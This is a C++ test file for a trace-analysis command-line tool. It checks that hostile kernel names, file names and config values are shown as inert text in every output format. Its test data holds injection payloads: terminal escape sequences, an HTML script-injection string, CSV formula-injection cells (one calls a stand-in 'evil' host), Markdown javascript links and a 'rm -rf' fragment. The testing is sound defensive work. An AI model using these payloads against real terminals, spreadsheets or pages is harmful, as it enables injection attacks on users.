// Promise: hostile names and facts in a trace have no effect in any verb but to be shown as text.
#include "tests/launcher/traces.h"

namespace {

// One of each kind: terminal, spreadsheet, Markdown, HTML, dot.
const char *const kNames[] = {
    "</script><img src=x onerror=alert(1)>\"'<!--<script>",
    "\x1b]0;pwned\x07\x1b[2J\x9b"
    "31m\xc2\x9b"
    "31mred\r\nINJECT",
    "\xe2\x80\xae\xe2\x81\xa6"
    "evil\xe2\x80\xa8next",
    "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[click](javascript:alert(1)) ![x](http://evil/px.png) `rm -rf` <b>x</b> | \\| x",
    "- www.evil.com me@evil.com\\N\\",
};

std::string Hostile() {
    return Make("hostile.cst", [](Synth *s) {
        std::string facts;
        for (const char *name : {kNames[0], kNames[3], kNames[5], "\xc2\x9b", "\xe2\x80\xae"}) {
            std::string text;
            for (const char *at = name; *at; at++)
                text += std::string(*at == '"' || *at == '\\' ? "\\" : "") + *at;
            facts += (facts.empty() ? "\"" : ",\"") + text + "\\ud800\\u001b\"";
        }
        s->Facts("{\"argv\":[" + facts + "],\"gpu\":\"\xc2\x9b\\ud800=1\"}");
        for (int step = 0; step < 3; step++) {
            for (const char *name : kNames) {
                uint32_t kind = s->Kernel(name);
                s->Thread(100, name);
                s->Eager(1, kind, name, name);
                s->Op(1, kind);
            }
            s->Flush(1, sizeof kNames / sizeof *kNames, kNames[1], kNames[5]);
            s->Call(1, CST_CALL_BREAK, kNames[1]);
            s->Sync(1);
        }
    });
}

// Newlines are the only control characters, and nothing reorders or is no UTF-8. Python's decoder
// is the judge.
void ExpectPlain(const std::string &text, const std::string &of) {
    Result r = RunProgram({"/usr/bin/env", "-u", "LD_PRELOAD", "python3", "-c",
                           "import sys,unicodedata\n"
                           "t=sys.stdin.buffer.read().decode('utf-8')\n"
                           "bad=[c for c in t if c!='\\n' and unicodedata.category(c) in "
                           "('Cc','Cf','Zl','Zp','Cs')]\n"
                           "print(bad) if bad else None"},
                          {}, text);
    EXPECT_EQ(r.Exit(), 0) << of << r.err << text;
    EXPECT_EQ(r.out, "") << of << text;
}

TEST(Hostile, NoVerbPrintsControlCharacters) {
    std::string trace = Hostile();
    std::vector<Strings> all = {{"info", trace},
                                {"info", "--json", trace},
                                {"dump", trace},
                                {"dump", "--dot", trace},
                                {"dump", "--dot", "--names", "mangled", trace},
                                {"whatif", trace},
                                {"export", "--perfetto", "-", trace},
                                {"export", "--jsonl", "-", trace}};
    for (const char *format : {"table", "csv", "md", "json"}) {
        for (const char *report : {"kernels", "segments", "cache", "breaks", "coverage"})
            all.push_back({"report", report, "--format", format, trace});
        for (const char *by : {"kernels", "steps"})
            all.push_back({"diff", "--by", by, "--format", format, trace, golden});
        all.push_back({"whatif", "--sweep", "--format", format, trace});
    }
    for (const Strings &arguments : all) {
        Result r = Cusplice(arguments);
        std::string of = arguments[0] + " " + arguments[1] + " " + arguments.back();
        EXPECT_EQ(r.Exit(), 0) << of << r.err;
        EXPECT_FALSE(r.out.empty()) << of;
        ExpectPlain(r.out, of);
        ExpectPlain(r.err, of);
    }
}

TEST(Hostile, ColumnsStandBelowEachOther) {
    std::string text = Says({"report", "kernels", "--fields", "name,calls", Hostile()});
    // Every name is one line, whose number ends where the head does.
    size_t rows = 0;
    for (size_t at = text.find("\nname ") + 1; at < text.size(); rows++) {
        size_t end = text.find('\n', at);
        EXPECT_EQ(end - at, text.find('\n', text.find("\nname ") + 1) - text.find("\nname ") - 1);
        at = end + 1;
    }
    EXPECT_EQ(rows, 1 + sizeof kNames / sizeof *kNames);
}

TEST(Hostile, NoCellOfCsvIsAFormula) {
    Result r = RunProgram(
        {"/usr/bin/env", "-u", "LD_PRELOAD", "python3", "-c",
         "import csv,io,sys\n"
         "for row in csv.reader(io.StringIO(sys.stdin.read(),newline=''),strict=True):\n"
         "  assert len(row)==2, row\n"
         "  assert row[0].lstrip(' \"')[:1] not in tuple('=+-@\\t\\r'), row\n"
         "  print(row[0])"},
        {}, Says({"report", "kernels", "--format", "csv", "--fields", "name,calls", Hostile()}));
    EXPECT_EQ(r.Exit(), 0) << r.err;
    EXPECT_TRUE(Has(r.out, "\n'=HYPERLINK(\"http://evil/?\"&A1,\"click\")\n")) << r.out;
    EXPECT_TRUE(Has(r.out, "\n'@SUM(1+1)*cmd|' /C calc'!A0\n")) << r.out;
}

TEST(Hostile, MarkdownHasNoMarkup) {
    std::string text =
        Says({"report", "kernels", "--format", "md", "--fields", "name,calls", Hostile()});
    for (const char *part : {"[x](", "http://", "www.", "evil@", " `rm", " <b>", "<img", "![x]"})
        EXPECT_FALSE(Has(text, part)) << part << "\n" << text;
    EXPECT_TRUE(Has(text, "\\[click\\](javascript:alert(1)) !\\[x\\](http`:`//evil/px.png)"));
    EXPECT_TRUE(Has(text, "\\- www`.`evil.com me`@`evil.com\\\\N\\\\ |")) << text;
}

TEST(Hostile, JsonHasNoHalfCharacters) {
    std::string trace = Hostile(), out = Folder() + "/hostile.json";
    for (const Strings &arguments :
         {Strings{"dump", trace}, Strings{"info", "--json", trace},
          Strings{"export", "--jsonl", "-", trace}, Strings{"export", "--perfetto", "-", trace}}) {
        Result r = RunProgram(
            {"/usr/bin/env", "-u", "LD_PRELOAD", "python3", "-c",
             "import json,sys\n"
             "t=sys.stdin.buffer.read().decode('utf-8')\n"
             "for l in [t] if t.count('\\n{')<2 or 'traceEvents' in t else t.splitlines():\n"
             "  json.dumps(json.loads(l),ensure_ascii=False).encode('utf-8')"},
            {}, Cusplice(arguments).out);
        EXPECT_EQ(r.Exit(), 0) << arguments[0] << r.err;
    }
}

TEST(Hostile, MessagesAreOneLine) {
    std::string name = "/nowhere/\x1b[2J\n\xc2\x9b\xff\xe2\x80\xae.cst";
    for (const Strings &arguments :
         {Strings{"info", name}, Strings{"report", "kernels", name}, Strings{"whatif", name},
          Strings{"export", "--jsonl", "-", name}, Strings{"import", name}, Strings{name},
          Strings{"config", "--check", name}, Strings{"cache", name, "--list"},
          Strings{"run", "--", name}, Strings{"replay", name}, Strings{"bench", name}}) {
        Result r = Cusplice(arguments);
        EXPECT_NE(r.Exit(), 0) << arguments[0];
        EXPECT_TRUE(Has(r.err, "?[2J????")) << arguments[0] << r.err;
        ExpectPlain(r.err, arguments[0]);
    }
}

TEST(Hostile, ConfigurationsAreShownClean) {
    std::string path = Folder() + "/\x1b[2Jhostile.conf";
    WriteAll(path, "log_file = /tmp/\x1b]0;x\x07\nbad\x1b[2J = 1\n[rules]\n"
                   "eager = lib:a\x1b]2\xc2\x9b\xff*\neager = a\x1b]2\xc2\x9b\xff*\n"
                   "[step \x1b(x]\nmarker = b\xc2\x9b*3\n[step]\nmarker = b\x1b]3\n");
    const Environment set = {{"CUSPLICE_CONFIG", path}};
    for (const Strings &arguments :
         {Strings{"config", "--list"}, Strings{"config", "--list", "--json"},
          Strings{"config", "--check", path}, Strings{"config", "--check", path, "--json"},
          Strings{"config", "--explain", "a\x1b]2\xc2\x9b\xffz"},
          Strings{"config", "--explain", "a\x1b]2\xc2\x9b\xffz", "--json"},
          Strings{"config", "--explain", "lib:a\x1b]2\xc2\x9b\xffz"},
          Strings{"config", "--explain", "lib:a\x1b]2\xc2\x9b\xffz", "--json"},
          Strings{"config", "--explain", "a\xc2\x9b\xffz"},
          Strings{"config", "--explain", "a\xc2\x9b\xffz", "--json"},
          Strings{"run", "--", "/bin/true"}}) {
        Result r = Cusplice(arguments, set);
        ExpectPlain(r.out + r.err, arguments[1]);
        EXPECT_FALSE((r.out + r.err).empty() && arguments[0] == "config");
    }
    std::string list = Cusplice({"config", "--list"}, set).out;
    for (const char *part : {"\nlog_file = /tmp/?]0;x?\n# ", "\neager = lib:a?]2??*\n",
                             "?[2Jhostile.conf:7\n[step ?(x]\n", "\nmarker = b?*3\n"})
        EXPECT_TRUE(Has(list, part)) << part << list;
    std::string explained = Cusplice({"config", "--explain", "lib:a\x1b]2\xc2\x9b\xffz"}, set).out;
    EXPECT_TRUE(Has(explained, "library    a?]2??z\n")) << explained;
    EXPECT_TRUE(Has(explained, "rule       eager = lib:a?]2??*    # ")) << explained;
    explained = Cusplice({"config", "--explain", "a\xc2\x9b\xffz"}, set).out;
    EXPECT_TRUE(Has(explained, "full name  a??z\n")) << explained;
    // No kernel has such a name.
    std::string told = Cusplice({"config", "--check", path}, set).err;
    EXPECT_TRUE(Has(told,
                    ":5: eager = a?]2??*: matches nothing: no kernel's name has the character "
                    "'?'\n"))
        << told;
}

TEST(Hostile, ImportKeepsTheNameOfItsFile) {
    std::string database = Folder() + "/a\"b\x1b\xc3\xa9\xff.sqlite",
                trace = Folder() + "/imported.cst";
    unlink(database.c_str());
    unlink(trace.c_str());
    ASSERT_EQ(Cusplice({"export", "--sqlite", database, golden}).Exit(), 0);
    ASSERT_EQ(Cusplice({"import", "-o", trace, database}).Exit(), 0);
    std::string text = Says({"info", "--json", trace});
    EXPECT_TRUE(Has(text, "/a\\\"b\\u001b\xc3\xa9\xef\xbf\xbd.sqlite\"")) << text;
}

} // namespace
